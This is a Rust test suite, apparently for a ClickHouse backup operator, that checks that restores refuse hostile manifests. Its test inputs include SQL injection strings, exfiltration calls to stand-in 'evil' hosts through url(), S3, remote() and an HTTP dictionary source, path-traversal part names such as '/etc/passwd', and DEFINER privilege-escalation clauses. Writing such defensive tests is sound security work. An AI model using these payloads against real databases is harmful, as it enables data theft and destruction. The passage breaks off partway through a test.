//! The hostile-manifest suite (decision 29): every way a bucket could lie to a restore, each
//! refused with its rule named, before anything is written. The agent runs these checks before
//! its first statement (`tests/e2e/backup/backups.rs` proves on real servers that a refused restore
//! changes nothing on any replica).

use std::collections::BTreeMap;

use super::*;
use crate::model::manifest::{Part, Table};

const EVENTS: &str = "CREATE TABLE default.events ( batch UInt64,  id UInt64,  payload String) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/events', '{replica}') PARTITION BY batch ORDER BY (batch, id) SETTINGS index_granularity = 8192";

fn part(name: &str) -> Part {
    Part {
        name: name.into(),
        checksum: "0123456789abcdef".into(),
        key: format!("backups/b1/shard-0/default/events/{name}"),
        files: BTreeMap::from([
            ("checksums.txt".into(), 10),
            ("data.bin".into(), 100),
            ("p.proj/data.bin".into(), 5),
        ]),
    }
}

/// A manifest as an 18.16 backup replica writes it: a replicated table, a Distributed table over
/// it, a view and a materialized view into the table.
fn good() -> ShardManifest {
    let table = |name: &str, engine: &str, create: &str, parts: Vec<Part>| Table {
        database: "default".into(),
        name: name.into(),
        engine: engine.into(),
        create: create.into(),
        parts,
    };
    ShardManifest {
        format: FORMAT,
        backup: "b1".into(),
        shard: 0,
        replica: "c1-0-0".into(),
        server_version: "18.16.1".into(),
        databases: BTreeMap::from([(
            "default".to_string(),
            "CREATE DATABASE IF NOT EXISTS `default`".to_string(),
        )]),
        tables: vec![
            table(
                "mv",
                "MaterializedView",
                "CREATE MATERIALIZED VIEW default.mv TO default.events ( batch UInt64) AS SELECT batch FROM default.events",
                vec![],
            ),
            table(
                "v",
                "View",
                "CREATE VIEW default.v ( n UInt64) AS SELECT count() AS n FROM default.events",
                vec![],
            ),
            table(
                "dist",
                "Distributed",
                "CREATE TABLE default.dist ( batch UInt64) ENGINE = Distributed(c1, default, events, rand())",
                vec![],
            ),
            table(
                "events",
                "ReplicatedMergeTree",
                EVENTS,
                vec![part("1_0_0_0"), part("-1_2_2_0")],
            ),
        ],
        native: None,
    }
}

fn check(m: &ShardManifest) -> Result<CheckedShard, Refusal> {
    check_shard(m, "b1", 0, Allow::default())
}

fn with_table(f: impl FnOnce(&mut Table)) -> ShardManifest {
    let mut m = good();
    f(m.tables.iter_mut().find(|t| t.name == "events").unwrap());
    m
}

fn with_create(name: &str, create: &str) -> ShardManifest {
    let mut m = good();
    m.tables.iter_mut().find(|t| t.name == name).unwrap().create = create.into();
    m
}

fn rule(r: Result<CheckedShard, Refusal>) -> StatementRule {
    match r {
        Err(Refusal::Statement { rule, .. }) => rule,
        other => panic!("expected a statement rule, got {other:?}"),
    }
}

/// A backup's own manifest passes, and every statement comes back rebuilt from its tokens:
/// `IF NOT EXISTS`, the operator's quoting, tables before the tables and views over them.
#[test]
fn a_manifest_of_a_real_backup_passes_with_every_statement_rebuilt() {
    let c = check(&good()).unwrap();
    assert_eq!(
        c.databases,
        [CheckedDatabase {
            name: "default".into(),
            statement: "CREATE DATABASE IF NOT EXISTS `default`".into()
        }]
    );
    let order: Vec<(&str, &str)> = c
        .tables
        .iter()
        .map(|t| (t.name.as_str(), t.statement.as_str()))
        .collect();
    assert_eq!(
        order,
        [
            (
                "events",
                "CREATE TABLE IF NOT EXISTS `default`.`events` (batch UInt64, id UInt64, payload String) ENGINE = ReplicatedMergeTree ('/clickhouse/tables/{shard}/default/events', '{replica}') PARTITION BY batch ORDER BY (batch, id) SETTINGS index_granularity = 8192"
            ),
            (
                "dist",
                "CREATE TABLE IF NOT EXISTS `default`.`dist` (batch UInt64) ENGINE = Distributed (c1, default, events, rand ())"
            ),
            (
                "v",
                "CREATE VIEW IF NOT EXISTS `default`.`v` (n UInt64) AS SELECT count () AS n FROM default.events"
            ),
            (
                "mv",
                "CREATE MATERIALIZED VIEW IF NOT EXISTS `default`.`mv` TO `default`.`events` (batch UInt64) AS SELECT batch FROM default.events"
            ),
        ]
    );
    let folders = c.parts_by_folder();
    assert_eq!(
        folders.keys().collect::<Vec<_>>(),
        ["backups/b1/shard-0/"],
        "each backup folder is listed once"
    );
    assert_eq!(folders["backups/b1/shard-0/"].len(), 2);
}

/// A database "statement" that is two statements, not a CREATE, or another database's.
#[test]
fn database_statements_must_be_one_create_of_their_own_database() {
    let mut m = good();
    m.databases.insert(
        "default".into(),
        "CREATE DATABASE IF NOT EXISTS `default`; DROP DATABASE prod".into(),
    );
    assert_eq!(rule(check(&m)), StatementRule::Several);
    m.databases
        .insert("default".into(), "DROP DATABASE prod".into());
    assert_eq!(rule(check(&m)), StatementRule::NotCreate("database"));
    m.databases
        .insert("default".into(), "CREATE DATABASE prod".into());
    assert!(matches!(
        rule(check(&m)),
        StatementRule::OtherObject { found } if found == "`prod`"
    ));
    m.databases.insert(
        "default".into(),
        "CREATE DATABASE default ENGINE = MySQL('db:3306', 'x', 'root', 'pw')".into(),
    );
    assert!(matches!(
        check(&m),
        Err(Refusal::Engine { engine, .. }) if engine == "MySQL"
    ));
    m.databases.insert(
        "default".into(),
        "CREATE DATABASE default ON CLUSTER everywhere".into(),
    );
    assert_eq!(rule(check(&m)), StatementRule::Clause("ON CLUSTER"));
}

/// Whatever is not a CREATE of the listed object is refused: an `INSERT INTO FUNCTION`, a
/// `GRANT`, a CREATE of another table, of a user, of another database's table.
#[test]
fn table_statements_must_create_the_object_they_are_listed_for() {
    for (create, expected) in [
        (
            "INSERT INTO FUNCTION url('http://evil/x', CSV, 'a String') SELECT * FROM default.events",
            StatementRule::NotCreate("table, view or dictionary"),
        ),
        (
            "GRANT ALL ON *.* TO default",
            StatementRule::NotCreate("table, view or dictionary"),
        ),
        (
            "CREATE USER evil IDENTIFIED BY 'x'",
            StatementRule::NotCreate("table, view or dictionary"),
        ),
        (
            "CREATE TABLE default.other (x UInt8) ENGINE = MergeTree ORDER BY x",
            StatementRule::OtherObject {
                found: "`default`.`other`".into(),
            },
        ),
        (
            "CREATE TABLE prod.events (x UInt8) ENGINE = MergeTree ORDER BY x",
            StatementRule::OtherObject {
                found: "`prod`.`events`".into(),
            },
        ),
        (
            "CREATE TABLE default.events (x UInt8) ENGINE = MergeTree ORDER BY x; DROP TABLE prod.t",
            StatementRule::Several,
        ),
        (
            "CREATE TABLE default.events ENGINE = MergeTree ORDER BY x",
            StatementRule::Clause("no column list"),
        ),
    ] {
        assert_eq!(
            rule(check(&with_create("events", create))),
            expected,
            "{create}"
        );
    }
}

/// Engines and table functions that reach outside the cluster (exfiltration, SSRF, a
/// credential sent elsewhere) are refused unless the restore allows external sources.
#[test]
fn engines_and_table_functions_outside_the_cluster_need_the_restores_consent() {
    let s3 = with_table(|t| {
        t.engine = "S3".into();
        t.parts.clear();
        t.create =
            "CREATE TABLE default.events (x String) ENGINE = S3('https://evil/x', 'CSV')".into();
    });
    assert!(matches!(check(&s3), Err(Refusal::Engine { engine, .. }) if engine == "S3"));
    assert!(
        check_shard(&s3, "b1", 0, Allow { external: true }).is_ok(),
        "allowed when the restore says so"
    );
    let view = with_create(
        "v",
        "CREATE VIEW default.v (n UInt64) AS SELECT count() AS n FROM remote('evil:9000', system.one)",
    );
    assert!(matches!(
        check(&view),
        Err(Refusal::TableFunction { function, .. }) if function == "remote"
    ));
    let default = with_create(
        "events",
        "CREATE TABLE default.events (x String DEFAULT (SELECT * FROM url('http://evil', CSV, 'x String'))) ENGINE = MergeTree ORDER BY x",
    );
    assert!(matches!(
        check(&default),
        Err(Refusal::TableFunction { .. })
    ));
    let dictionary = {
        let mut m = good();
        m.tables.push(Table {
            database: "default".into(),
            name: "d".into(),
            engine: "Dictionary".into(),
            create: "CREATE DICTIONARY default.d (k UInt64, v String) PRIMARY KEY k SOURCE(HTTP(url 'http://evil' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)".into(),
            parts: vec![],
        });
        m
    };
    assert!(matches!(check(&dictionary), Err(Refusal::Engine { .. })));
    assert!(check_shard(&dictionary, "b1", 0, Allow { external: true }).is_ok());
}

/// `AS SELECT` only as a view's own query: a table filled from a query, a materialized view
/// that populates, or one that writes into a table the backup does not hold are refused.
#[test]
fn queries_run_only_as_the_views_they_define() {
    let filled = with_create(
        "events",
        "CREATE TABLE default.events (x UInt8) ENGINE = Log AS SELECT * FROM prod.secrets",
    );
    assert!(matches!(rule(check(&filled)), StatementRule::Clause(_)));
    let populate = with_create(
        "mv",
        "CREATE MATERIALIZED VIEW default.mv TO default.events POPULATE AS SELECT batch FROM default.events",
    );
    assert_eq!(rule(check(&populate)), StatementRule::Clause("POPULATE"));
    let elsewhere = with_create(
        "mv",
        "CREATE MATERIALIZED VIEW default.mv TO prod.exfil AS SELECT * FROM default.events",
    );
    assert!(matches!(
        rule(check(&elsewhere)),
        StatementRule::Target { target } if target == "`prod`.`exfil`"
    ));
}

/// Part names become folders on the backup replica's volume: `..`, separators and absolute
/// paths are refused, as are names outside a part name's alphabet.
#[test]
fn part_names_cannot_leave_the_detached_folder() {
    for name in [
        "../../../../metadata",
        "/var/lib/clickhouse/access",
        "all_1_1_0/..",
        "a b",
        "",
        "..",
    ] {
        let m = with_table(|t| {
            let mut p = part("all_1_1_0");
            p.name = name.into();
            t.parts = vec![p];
        });
        assert!(
            matches!(check(&m), Err(Refusal::PartName { .. })),
            "{name:?}: {:?}",
            check(&m)
        );
    }
}

/// File names are relative paths inside the part: no `..`, no absolute path, no empty segment,
/// at most three levels.
#[test]
fn file_names_stay_inside_their_part() {
    for file in [
        "../../metadata/evil.sql",
        "/etc/passwd",
        "a//b",
        "./x",
        "a/b/c/d",
        "x\\..\\y",
    ] {
        let m = with_table(|t| {
            t.parts[0].files.insert(file.into(), 1);
        });
        assert!(
            matches!(check(&m), Err(Refusal::FileName { .. })),
            "{file:?}: {:?}",
            check(&m)
        );
    }
    let m = with_table(|t| {
        t.parts[0].files.remove("checksums.txt");
    });
    assert!(matches!(check(&m), Err(Refusal::NoChecksums { .. })));
}

/// Object keys name a part folder of the part's own table in some backup's shard folder: not
/// another object of the bucket, not another table's part, not another shard's.
#[test]
fn part_keys_point_at_their_own_tables_part_folder() {
    for key in [
        "backups/b1/shard-0/default/events/../../../other/x",
        "backups/b1/shard-1/default/events/1_0_0_0",
        "backups/b1/shard-0/prod/secrets/1_0_0_0",
        "backups/b1/shard-0/default/events/9_9_9_9",
        "/backups/b1/shard-0/default/events/1_0_0_0",
        "manifest.json",
        "backups/../shard-0/default/events/1_0_0_0",
    ] {
        let m = with_table(|t| t.parts[0].key = key.into());
        assert!(matches!(check(&m), Err(Refusal::PartKey { .. })), "{key}");
    }
    let base =
        with_table(|t| t.parts[0].key = "backups/nightly-1/shard-0/default/events/1_0_0_0".into());
    assert!(check(&base).is_ok(), "a part of an earlier backup is fine");
}

/// Oversized fields, and more of anything than a restore reads, are refused before any is used.
#[test]
fn oversized_fields_are_refused() {
    let long = with_create(
        "v",
        &format!(
            "CREATE VIEW default.v AS SELECT '{}'",
            "x".repeat(limits::STATEMENT_BYTES)
        ),
    );
    assert_eq!(rule(check(&long)), StatementRule::TooLong);
    let mut name = good();
    name.tables[1].name = "x".repeat(300);
    assert!(matches!(check(&name), Err(Refusal::Name { .. })));
    let files = with_table(|t| {
        for n in 0..=limits::FILES {
            t.parts[0].files.insert(format!("f{n}.bin"), 1);
        }
    });
    assert!(matches!(check(&files), Err(Refusal::Oversized { .. })));
    let size = with_table(|t| {
        t.parts[0]
            .files
            .insert("data.bin".into(), limits::FILE_BYTES + 1);
    });
    assert!(matches!(check(&size), Err(Refusal::Oversized { .. })));
}

/// A manifest that lies about what the bucket holds: a file missing, a file of another size,
/// a `checksums.txt` that is not the one the manifest hashed.
#[test]
fn a_manifest_that_lies_about_sizes_or_checksums_is_refused() {
    let c = check(&good()).unwrap();
    let mut stored: BTreeMap<String, u64> = BTreeMap::new();
    for t in &c.tables {
        for p in &t.parts {
            for (f, size) in &p.files {
                stored.insert(format!("{}/{f}", p.key), *size);
            }
        }
    }
    assert_eq!(verify_stored(&c, &stored), Ok(()));
    let mut short = stored.clone();
    short.insert(
        "backups/b1/shard-0/default/events/1_0_0_0/data.bin".into(),
        99,
    );
    assert!(matches!(
        verify_stored(&c, &short),
        Err(Refusal::Size {
            listed: 100,
            stored: 99,
            ..
        })
    ));
    let mut gone = stored.clone();
    gone.remove("backups/b1/shard-0/default/events/-1_2_2_0/data.bin");
    assert!(matches!(
        verify_stored(&c, &gone),
        Err(Refusal::Missing { .. })
    ));
    let events = &c.tables[0];
    let mut p = events.parts[0].clone();
    p.checksum = manifest::checksum_of(b"columns format version: 1");
    assert_eq!(
        verify_checksum(events, &p, b"columns format version: 1"),
        Ok(())
    );
    assert!(matches!(
        verify_checksum(events, &p, b"something else"),
        Err(Refusal::ChecksumMismatch { .. })
    ));
    let bad = with_table(|t| t.parts[0].checksum = "not-hex-at-all!!".into());
    assert!(matches!(check(&bad), Err(Refusal::Checksum { .. })));
}

/// The manifest of another backup or shard, of an unknown format, with a system database, a
/// table in a database it does not create, a listed engine its statement contradicts, parts on
/// a table that has none, or a server-written backup elsewhere.
#[test]
fn manifests_that_contradict_themselves_are_refused() {
    assert!(matches!(
        check_shard(&good(), "b2", 0, Allow::default()),
        Err(Refusal::OtherBackup { .. })
    ));
    assert!(matches!(
        check_shard(&good(), "b1", 1, Allow::default()),
        Err(Refusal::OtherShard { .. })
    ));
    let mut f = good();
    f.format = 99;
    assert!(matches!(check(&f), Err(Refusal::Format { found: 99 })));
    let mut system = good();
    system
        .databases
        .insert("system".into(), "CREATE DATABASE system".into());
    assert!(matches!(
        check(&system),
        Err(Refusal::Name { system: true, .. })
    ));
    let mut orphan = good();
    orphan.tables[2].database = "elsewhere".into();
    assert!(matches!(
        check(&orphan),
        Err(Refusal::UnknownDatabase { .. })
    ));
    let liar = with_table(|t| t.engine = "Log".into());
    assert!(matches!(check(&liar), Err(Refusal::EngineMismatch { .. })));
    let mut log = good();
    let t = log.tables.iter_mut().find(|t| t.name == "dist").unwrap();
    t.parts = vec![part("1_0_0_0")];
    assert!(matches!(
        check(&log),
        Err(Refusal::PartsWithoutMergeTree { .. })
    ));
    let mut native = good();
    for t in &mut native.tables {
        t.parts.clear();
    }
    native.native = Some("backups/other/shard-0/native".into());
    assert!(matches!(check(&native), Err(Refusal::NativeDir { .. })));
    native.native = Some(manifest::native_dir("b1", 0));
    assert!(check(&native).is_ok());
    let mut twice = good();
    let copy = twice.tables[3].clone();
    twice.tables.push(copy);
    assert!(matches!(check(&twice), Err(Refusal::Duplicate { .. })));
}

/// Text the lexer does not read the way ClickHouse would is refused, and comments cannot hide
/// a second statement.
#[test]
fn statements_the_lexer_cannot_read_are_refused_and_comments_dropped() {
    let heredoc = with_create("v", "CREATE VIEW default.v AS SELECT $$x$$");
    assert!(matches!(rule(check(&heredoc)), StatementRule::Lex(_)));
    let open = with_create("v", "CREATE VIEW default.v AS SELECT 'x");
    assert!(matches!(rule(check(&open)), StatementRule::Lex(_)));
    let commented = with_create(
        "v",
        "CREATE VIEW default.v AS SELECT 1 /* ; DROP TABLE x */ -- ; DROP TABLE y",
    );
    let c = check(&commented).unwrap();
    let v = c.tables.iter().find(|t| t.name == "v").unwrap();
    assert_eq!(
        v.statement,
        "CREATE VIEW IF NOT EXISTS `default`.`v` AS SELECT 1"
    );
    let quoted = with_create(
        "v",
        "CREATE VIEW `default`.`v` AS SELECT 'a\\'; DROP TABLE x; --' AS s",
    );
    let c = check(&quoted).unwrap();
    let v = c.tables.iter().find(|t| t.name == "v").unwrap();
    assert_eq!(
        v.statement,
        "CREATE VIEW IF NOT EXISTS `default`.`v` AS SELECT 'a\\'; DROP TABLE x; --' AS s",
        "a quote inside a literal stays inside it"
    );
}

/// The backup's `manifest.json`, read by the operator before a restore starts.
#[test]
fn a_backups_manifest_names_itself_and_shards_zero_to_n() {
    let m = |backup: &str, shards: Vec<i32>| Manifest {
        format: FORMAT,
        backup: backup.into(),
        namespace: "ns".into(),
        cluster: "c1".into(),
        shards,
        base: None,
        completed: "2026-12-03T00:00:00Z".into(),
    };
    assert_eq!(check_manifest(&m("b1", vec![1, 0]), "b1"), Ok(()));
    assert!(matches!(
        check_manifest(&m("b2", vec![0]), "b1"),
        Err(Refusal::OtherBackup { .. })
    ));
    for shards in [vec![], vec![0, 0], vec![1], vec![0, 2], (0..2000).collect()] {
        assert!(
            matches!(
                check_manifest(&m("b1", shards.clone()), "b1"),
                Err(Refusal::Shards { .. })
            ),
            "{shards:?}"
        );
    }
}

/// A server below 24.2 (no `SQL SECURITY`), and one after it with the setting
/// `ignore_empty_sql_security_in_create_view_query` on (its default) or off.
const OLD: Server = Server {
    version: crate::clickhouse::Version::new(18, 16),
    keeps_empty_sql_security: false,
};

fn modern(keeps_empty_sql_security: bool) -> Server {
    Server {
        version: crate::clickhouse::Version::new(24, 8),
        keeps_empty_sql_security,
    }
}

fn table_of<'a>(c: &'a CheckedShard, name: &str) -> &'a CheckedTable {
    c.tables.iter().find(|t| t.name == name).unwrap()
}

/// Decision 61 (review H-1): every form of `DEFINER`/`SQL SECURITY` ClickHouse's parser takes
/// (`=` or not, a bare, quoted or string name, `CURRENT_USER`, a host, `SQL SECURITY DEFINER`
/// alone, which means the creator, either order, `NONE`), naming the operator's account or
/// the all-privileged `default`, is dropped: a view is created without a clause below 24.2 and
/// with exactly `SQL SECURITY INVOKER` from 24.2, so it reads with its reader's rights.
#[test]
fn no_definer_of_the_bucket_reaches_a_server_in_any_form_the_parser_takes() {
    for clause in [
        "DEFINER = clickhouse_operator SQL SECURITY DEFINER",
        "DEFINER 'clickhouse_operator' SQL SECURITY DEFINER",
        "DEFINER clickhouse_operator SQL SECURITY DEFINER",
        "DEFINER `clickhouse_operator`",
        "DEFINER CURRENT_USER SQL SECURITY DEFINER",
        "DEFINER = default SQL SECURITY DEFINER",
        "DEFINER = 'default'@'%' SQL SECURITY DEFINER",
        "SQL SECURITY DEFINER",
        "SQL SECURITY DEFINER DEFINER = default",
        "SQL SECURITY NONE",
        "SQL SECURITY INVOKER",
    ] {
        let m = with_create(
            "v",
            &format!(
                "CREATE VIEW default.v (n UInt64) {clause} COMMENT 'counts' AS SELECT count() AS n FROM default.events"
            ),
        );
        let c = check(&m).unwrap_or_else(|e| panic!("{clause}: {e}"));
        let v = table_of(&c, "v");
        assert_eq!(
            v.statement_for(&OLD).unwrap(),
            "CREATE VIEW IF NOT EXISTS `default`.`v` (n UInt64) COMMENT 'counts' AS SELECT count () AS n FROM default.events",
            "{clause}"
        );
        for server in [modern(true), modern(false)] {
            assert_eq!(
                v.statement_for(&server).unwrap(),
                "CREATE VIEW IF NOT EXISTS `default`.`v` (n UInt64) SQL SECURITY INVOKER COMMENT 'counts' AS SELECT count () AS n FROM default.events",
                "{clause}"
            );
        }
        let mv = with_create(
            "mv",
            &format!(
                "CREATE MATERIALIZED VIEW default.mv TO default.events (batch UInt64) {clause} AS SELECT batch FROM default.events"
            ),
        );
        let c = check(&mv).unwrap_or_else(|e| panic!("{clause}: {e}"));
        assert_eq!(
            table_of(&c, "mv").statement,
            "CREATE MATERIALIZED VIEW IF NOT EXISTS `default`.`mv` TO `default`.`events` (batch UInt64) AS SELECT batch FROM default.events",
            "{clause}"
        );
    }
    // what the parser does not take as the clause is not passed on either
    for (statement, expected) in [
        (
            "CREATE VIEW default.v DEFINER = a SQL SECURITY DEFINER DEFINER = b AS SELECT 1",
            StatementRule::Clause("two DEFINER or SQL SECURITY clauses"),
        ),
        (
            "CREATE VIEW default.v DEFINER = SQL SECURITY DEFINER AS SELECT 1",
            StatementRule::Clause("a DEFINER or SQL SECURITY clause that does not parse"),
        ),
        (
            "CREATE VIEW default.v SQL SECURITY ROOT AS SELECT 1",
            StatementRule::Clause("a DEFINER or SQL SECURITY clause that does not parse"),
        ),
        (
            "CREATE VIEW default.v ENGINE = Log AS SELECT 1",
            StatementRule::Clause("clauses a view does not take before AS"),
        ),
        (
            "CREATE VIEW default.v TO default.events AS SELECT 1",
            StatementRule::Clause("TO on a view"),
        ),
        (
            "CREATE VIEW default.v (n UInt64)",
            StatementRule::Clause("no AS SELECT"),
        ),
    ] {
        assert_eq!(
            rule(check(&with_create("v", statement))),
            expected,
            "{statement}"
        );
    }
    // a clause before VIEW is not a statement a restore reads
    assert_eq!(
        rule(check(&with_create(
            "v",
            "CREATE DEFINER = default SQL SECURITY DEFINER VIEW default.v AS SELECT 1"
        ))),
        StatementRule::NotCreate("table, view or dictionary")
    );
}

/// Decision 61: a materialized view cannot be `INVOKER`, `NONE` skips every check, and a
/// definer would be the bucket's choice or the operator. Without any clause it runs as before
/// 24.2 (its query with the rights of whoever inserts into its source, into a target the
/// backup holds) on servers below 24.2 and on servers that keep the clause empty
/// (`ignore_empty_sql_security_in_create_view_query`, on by default); on a server with that
/// setting off it would run as its creator, the operator, and the restore refuses it, naming
/// the view, before anything is written.
#[test]
fn a_materialized_view_runs_as_whoever_inserts_or_is_refused() {
    let c = check(&good()).unwrap();
    let mv = table_of(&c, "mv");
    for server in [OLD, modern(true)] {
        assert_eq!(mv.statement_for(&server).unwrap(), mv.statement);
        assert!(c.statements_for(&server).is_ok());
    }
    let refused = mv.statement_for(&modern(false)).unwrap_err();
    assert!(
        matches!(&refused, Refusal::MaterializedViewDefiner { object, .. } if object == "`default`.`mv`"),
        "{refused:?}"
    );
    assert!(refused.to_string().contains("24.8.0.0"), "{refused}");
    assert_eq!(c.statements_for(&modern(false)), Err(refused));
    // an inner table's engine is checked like a table's
    let inner = with_create(
        "mv",
        "CREATE MATERIALIZED VIEW default.mv (batch UInt64) ENGINE = URL('http://evil/', CSV) AS SELECT batch FROM default.events",
    );
    assert!(matches!(check(&inner), Err(Refusal::Engine { .. })));
}

/// Review H-1, 4: `REFRESH …` comes before `TO` in ClickHouse's grammar, so every `TO` before
/// `AS` is a target, whatever stands before it (`REFRESH EVERY 1 SECOND TO`, `… APPEND TO`,
/// `… DEPENDS ON … SETTINGS …`). A target outside the backup is refused; a target is always
/// named with its database (an unqualified one would be the restoring session's), and a `UUID`
/// after it, which would name a table by itself, is dropped. A refreshable view, which runs its
/// query on a schedule as a definer, is refused on every server even into the backup's tables.
#[test]
fn refresh_targets_and_every_other_to_are_tables_of_the_backup() {
    for statement in [
        "CREATE MATERIALIZED VIEW default.mv REFRESH EVERY 1 SECOND TO prod.orders AS SELECT * FROM numbers(10)",
        "CREATE MATERIALIZED VIEW default.mv REFRESH EVERY 1 HOUR APPEND TO prod.orders (x UInt64) AS SELECT 1 AS x",
        "CREATE MATERIALIZED VIEW default.mv REFRESH AFTER 1 SECOND DEPENDS ON default.events SETTINGS refresh_retries = 1 APPEND TO `prod`.orders AS SELECT 1",
        "CREATE MATERIALIZED VIEW default.mv TO prod.orders AS SELECT 1",
        "CREATE MATERIALIZED VIEW default.mv DEFINER = default SQL SECURITY DEFINER TO prod.orders AS SELECT 1",
    ] {
        assert!(
            matches!(
                rule(check(&with_create("mv", statement))),
                StatementRule::Target { target } if target == "`prod`.`orders`"
            ),
            "{statement}"
        );
    }
    let unqualified = check(&with_create(
        "mv",
        "CREATE MATERIALIZED VIEW default.mv TO events UUID '00000000-0000-4000-8000-000000000001' AS SELECT batch FROM default.events",
    ))
    .unwrap();
    assert_eq!(
        table_of(&unqualified, "mv").statement,
        "CREATE MATERIALIZED VIEW IF NOT EXISTS `default`.`mv` TO `default`.`events` AS SELECT batch FROM default.events"
    );
    let twice = with_create(
        "mv",
        "CREATE MATERIALIZED VIEW default.mv TO default.events ENGINE = Log TO default.events AS SELECT 1",
    );
    assert_eq!(rule(check(&twice)), StatementRule::Clause("two TO targets"));
    let refreshing = check(&with_create(
        "mv",
        "CREATE MATERIALIZED VIEW default.mv REFRESH EVERY 1 SECOND APPEND TO default.events AS SELECT 1 AS batch",
    ))
    .unwrap();
    let mv = table_of(&refreshing, "mv");
    for server in [OLD, modern(true), modern(false)] {
        assert!(
            matches!(mv.statement_for(&server), Err(Refusal::Refresh { .. })),
            "{server:?}"
        );
    }
    let on_a_view = with_create(
        "v",
        "CREATE VIEW default.v REFRESH EVERY 1 SECOND AS SELECT 1",
    );
    assert_eq!(
        rule(check(&on_a_view)),
        StatementRule::Clause("REFRESH on a view")
    );
}

/// Review H-1, 5: a replicated table's Keeper path and replica name come from the restore,
/// never from the bucket: whatever path the bucket wrote (another table's replication group,
/// a replica folder inside one, the distributed DDL queue, Keeper's root), the table gets
/// `/clickhouse/tables/{shard}/<database>/<table>` and `{replica}`, its names escaped into one
/// segment each (under an external Keeper's root, which the servers' configuration applies, or
/// on the cluster's own Keeper). Arguments ClickHouse would evaluate into a path are refused;
/// a table without them keeps the server's default (its own UUID).
#[test]
fn replicated_tables_and_databases_get_the_clusters_own_keeper_path() {
    let own = "ENGINE = ReplicatedMergeTree ('/clickhouse/tables/{shard}/default/events', '{replica}') PARTITION BY batch ORDER BY (batch, id)";
    for path in [
        "/clickhouse/tables/{shard}/prod/orders",
        "/clickhouse/tables/0/default/events/replicas",
        "/clickhouse/task_queue/ddl",
        "/clickhouse/access",
        "/",
        "../other-root",
    ] {
        let m = with_create(
            "events",
            &format!(
                "CREATE TABLE default.events (batch UInt64, id UInt64) ENGINE = ReplicatedMergeTree('{path}', 'evil') PARTITION BY batch ORDER BY (batch, id)"
            ),
        );
        let c = check(&m).unwrap();
        let t = table_of(&c, "events");
        assert!(t.statement.ends_with(own), "{path}: {}", t.statement);
        assert_eq!(
            t.keeper_path.as_deref(),
            Some("/clickhouse/tables/{shard}/default/events")
        );
    }
    for (engine, expected) in [
        (
            "ReplicatedReplacingMergeTree('/x', 'r', version) ORDER BY id",
            "ReplicatedReplacingMergeTree ('/clickhouse/tables/{shard}/default/events', '{replica}', version)",
        ),
        // the old syntax: path, replica, date column, key, granularity
        (
            "ReplicatedMergeTree('/x', 'r', d, (id), 8192)",
            "ReplicatedMergeTree ('/clickhouse/tables/{shard}/default/events', '{replica}', d, (id), 8192)",
        ),
        // the server's default path and replica name
        (
            "ReplicatedReplacingMergeTree(version) ORDER BY id",
            "ReplicatedReplacingMergeTree (version) ORDER BY id",
        ),
        (
            "ReplicatedMergeTree ORDER BY id",
            "ReplicatedMergeTree ORDER BY id",
        ),
        (
            "ReplicatedMergeTree() ORDER BY id",
            "ReplicatedMergeTree () ORDER BY id",
        ),
    ] {
        let m = with_table(|t| {
            t.engine = engine.split(['(', ' ']).next().unwrap().into();
            t.create = format!("CREATE TABLE default.events (id UInt64) ENGINE = {engine}");
        });
        let c = check(&m).unwrap_or_else(|e| panic!("{engine}: {e}"));
        assert!(
            table_of(&c, "events").statement.contains(expected),
            "{engine}: {}",
            table_of(&c, "events").statement
        );
    }
    for engine in [
        "ReplicatedMergeTree(concat('/clickhouse/tables/0/prod/', 'orders'), 'r') ORDER BY id",
        "ReplicatedMergeTree('/x' || '/y', 'r') ORDER BY id",
        "ReplicatedMergeTree(1, 2) ORDER BY id",
    ] {
        let m = with_create(
            "events",
            &format!("CREATE TABLE default.events (id UInt64) ENGINE = {engine}"),
        );
        assert!(
            matches!(rule(check(&m)), StatementRule::KeeperPath(_)),
            "{engine}"
        );
    }
    // names that are not path segments stay one segment, macros included
    let mut odd = good();
    odd.databases
        .insert("a/{shard}".into(), "CREATE DATABASE `a/{shard}`".into());
    odd.tables.push(Table {
        database: "a/{shard}".into(),
        name: "..".into(),
        engine: "ReplicatedMergeTree".into(),
        create: "CREATE TABLE `a/{shard}`.`..` (id UInt64) ENGINE = ReplicatedMergeTree('/p', 'r') ORDER BY id".into(),
        parts: vec![],
    });
    let c = check(&odd).unwrap();
    assert_eq!(
        table_of(&c, "..").keeper_path.as_deref(),
        Some("/clickhouse/tables/{shard}/a%2F%7Bshard%7D/%2E%2E")
    );
    // a materialized view's inner table is named for the view
    let inner = check(&with_create(
        "mv",
        "CREATE MATERIALIZED VIEW default.mv (batch UInt64) ENGINE = ReplicatedMergeTree('/clickhouse/tables/0/prod/orders', 'x') ORDER BY batch AS SELECT batch FROM default.events",
    ))
    .unwrap();
    assert_eq!(
        table_of(&inner, "mv").statement,
        "CREATE MATERIALIZED VIEW IF NOT EXISTS `default`.`mv` (batch UInt64) ENGINE = ReplicatedMergeTree ('/clickhouse/tables/{shard}/default/mv', '{replica}') ORDER BY batch AS SELECT batch FROM default.events"
    );
    // a Replicated database: its DDL log, shard and replica are the cluster's own
    let mut db = good();
    db.databases.insert(
        "default".into(),
        "CREATE DATABASE default ENGINE = Replicated('/clickhouse/databases/prod', 'x', 'y')"
            .into(),
    );
    assert_eq!(
        check(&db).unwrap().databases[0].statement,
        "CREATE DATABASE IF NOT EXISTS `default` ENGINE = Replicated ('/clickhouse/databases/default', '{shard}', '{replica}')"
    );
    db.databases.insert(
        "default".into(),
        "CREATE DATABASE default ENGINE = Replicated(concat('/clickhouse/databases/', 'prod'), 's', 'r')".into(),
    );
    assert!(matches!(rule(check(&db)), StatementRule::KeeperPath(_)));
}

/// Review H-1, 5: a `Buffer` flushes into its destination with no access check, so the
/// destination must be a table of the backup, named by a name or a string.
#[test]
fn a_buffer_flushes_only_into_a_table_of_the_backup() {
    let buffer = |args: &str| {
        let mut m = good();
        m.tables.push(Table {
            database: "default".into(),
            name: "buf".into(),
            engine: "Buffer".into(),
            create: format!(
                "CREATE TABLE default.buf (batch UInt64) ENGINE = Buffer({args}, 1, 10, 100, 10000, 1000000, 10000000, 100000000)"
            ),
            parts: vec![],
        });
        check(&m)
    };
    assert!(buffer("default, events").is_ok());
    assert!(buffer("'default', 'events'").is_ok());
    for (args, target) in [
        ("prod, orders", "`prod`.`orders`"),
        ("'prod', 'orders'", "`prod`.`orders`"),
        (
            "currentDatabase(), 'events'",
            "a destination that is not a database and table name",
        ),
    ] {
        assert!(
            matches!(rule(buffer(args)), StatementRule::Target { target: t } if t == target),
            "{args}"
        );
